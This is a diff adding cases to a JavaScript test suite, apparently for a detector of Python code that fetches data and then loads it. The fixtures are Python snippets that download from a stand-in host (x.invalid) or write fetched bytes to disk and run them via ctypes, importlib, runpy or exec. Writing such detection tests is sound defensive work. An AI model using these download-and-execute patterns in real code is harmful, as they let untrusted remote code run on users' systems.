@@ -62,6 +62,14 @@ describe('a file that is fetched and then loaded', () => {
       'import ctypes, urllib.request as r\nr.urlretrieve("https://x.invalid/l.dll", "l.dll")\nctypes.windll.LoadLibrary("l.dll")',
     ],
     [
+      'a path that the caller names',
+      `${FETCH}${SPEC}def go(path):\n    with open(path, "wb") as f:\n        f.write(data)\n    s = u.spec_from_file_location("x", path)\n    s.loader.exec_module(u.module_from_spec(s))`,
+    ],
+    [
+      'a module by the stem of its path',
+      `${FETCH}import sys, importlib\nfrom pathlib import Path\np = Path("cache/zz.py")\np.write_bytes(data)\nsys.path.insert(0, str(p.parent))\nimportlib.import_module(p.stem)`,
+    ],
+    [
       'what is read back',
       `${FETCH}import tempfile\nf = tempfile.TemporaryFile("w+")\nf.write(data)\nf.seek(0)\nexec(f.read())`,
     ],
@@ -89,6 +97,14 @@ describe('a file that is fetched and then loaded', () => {
     [
       'plugins beside an answer that is kept',
       `${FETCH}${SPEC}open("data.json", "wb").write(data)\ns = u.spec_from_file_location("p", "plugins/a.py")\ns.loader.exec_module(u.module_from_spec(s))`,
+    ],
+    [
+      'a manager of plugins that keeps one and loads another',
+      `${FETCH}import runpy\ndef keep(path):\n    open(path, "wb").write(data)\ndef load(path):\n    runpy.run_path(path)`,
+    ],
+    [
+      'paths of which nothing is known',
+      `${FETCH}import os, runpy\ndef go(a, b, c, d):\n    open(os.path.join(a, b), "wb").write(data)\n    runpy.run_path(os.path.join(c, d))\n    open(a + ".py", "wb").write(data)\n    runpy.run_path(b + ".py")`,
     ],
     [
       'two temporary files',
